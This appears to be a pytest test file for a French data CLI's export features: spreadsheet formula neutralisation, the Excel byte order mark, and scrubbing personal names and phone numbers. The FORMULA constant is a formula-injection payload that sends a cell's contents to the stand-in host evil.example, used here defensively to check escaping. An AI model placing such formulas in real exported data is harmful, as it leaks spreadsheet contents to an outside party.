"""Reliability (issue 17): exports — formulas in spreadsheets, the Excel byte order mark,
people written in other spellings.

Each test is named after its case of the adversarial run (E01, E02, E03)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from dtscli.base.personal import Person, PersonalData

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture
def evil(shipped_copy):
    path = shipped_copy / "schemes" / "clsm" / "clsm-nice.yaml"
    text = path.read_text(encoding="utf-8")
    name = next(line for line in text.splitlines() if line.startswith("name:"))
    path.write_text(text.replace(name, "name: '" + FORMULA.replace("'", "''") + "'"), "utf-8")
    return shipped_copy


def names_in(text: str, delimiter: str) -> list[str]:
    rows = csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
    return [row["name"] for row in rows]


def test_E01_excel_neutralises_formulas(invoke, evil, tmp_path):
    target = tmp_path / "base.csv"
    assert invoke("export", "-o", str(target), "--excel", data=evil).exit_code == 0
    names = names_in(target.read_text(encoding="utf-8"), ";")
    assert "'" + FORMULA in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


def test_E01_plain_csv_keeps_values_as_they_are(invoke, evil):
    result = invoke("export", "--format", "csv", data=evil)
    assert FORMULA in names_in(result.stdout, ",")


def test_E02_excel_to_standard_output_has_a_byte_order_mark(invoke, shipped_copy, tmp_path):
    printed = invoke("export", "--format", "csv", "--excel", data=shipped_copy).stdout
    target = tmp_path / "base.csv"
    assert invoke("export", "-o", str(target), "--excel", data=shipped_copy).exit_code == 0
    assert printed.startswith("\ufeffid;type;")
    written = target.read_bytes()
    assert written.startswith(b"\xef\xbb\xbfid;type;") and written.count(b"\xef\xbb\xbf") == 1


SPELLINGS = [
    "Yaël Eched",
    "EVANGELINE BONNEROT",
    "Celine Mansour",
    "+33 7 64 51 50 75",
    "07-64-51-50-75",
    "07.64.51.50.75",
    "0033 7 64 51 50 75",
    "0764515075",
]


def test_E03_no_personal_finds_people_in_any_spelling(invoke, shipped_copy):
    path = shipped_copy / "schemes" / "clsm" / "clsm-nice.yaml"
    text = path.read_text(encoding="utf-8")
    notes = "notes: " + json.dumps(" / ".join(SPELLINGS), ensure_ascii=False) + "\n"
    path.write_text(text.split("\nnotes:")[0].rstrip("\n") + "\n" + notes, encoding="utf-8")
    assert invoke("check", "--today", "2026-11-24", data=shipped_copy).exit_code == 0
    for fmt in ("json", "csv"):
        out = invoke("export", "--format", fmt, "--no-personal", data=shipped_copy).stdout
        for spelling in SPELLINGS:
            assert spelling not in out, (fmt, spelling)
        assert "[personne retirée]" in out and "[téléphone retiré]" in out


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_E03_the_matcher_knows_every_usual_spelling(spelling):
    people = PersonalData(
        [
            Person("yael-eched", "Yael Eched"),
            Person("evangeline-bonnerot", "Evangéline Bonnerot", "07 64 51 50 75"),
            Person("celine-mansour", "Céline Mansour"),
        ]
    )
    cleaned = people.scrub(f"Voir {spelling}, merci.", "[P]", "[T]")
    assert spelling not in cleaned and ("[P]" in cleaned or "[T]" in cleaned)


def test_E03_the_matcher_leaves_other_words_and_numbers():
    people = PersonalData([Person("l-sebbag", "L. Sebbag", "07 64 51 50 75")])
    text = "Celine, 07 64 51 50 76, 107645150759, sebbagne"
    assert people.scrub(text, "[P]", "[T]") == text
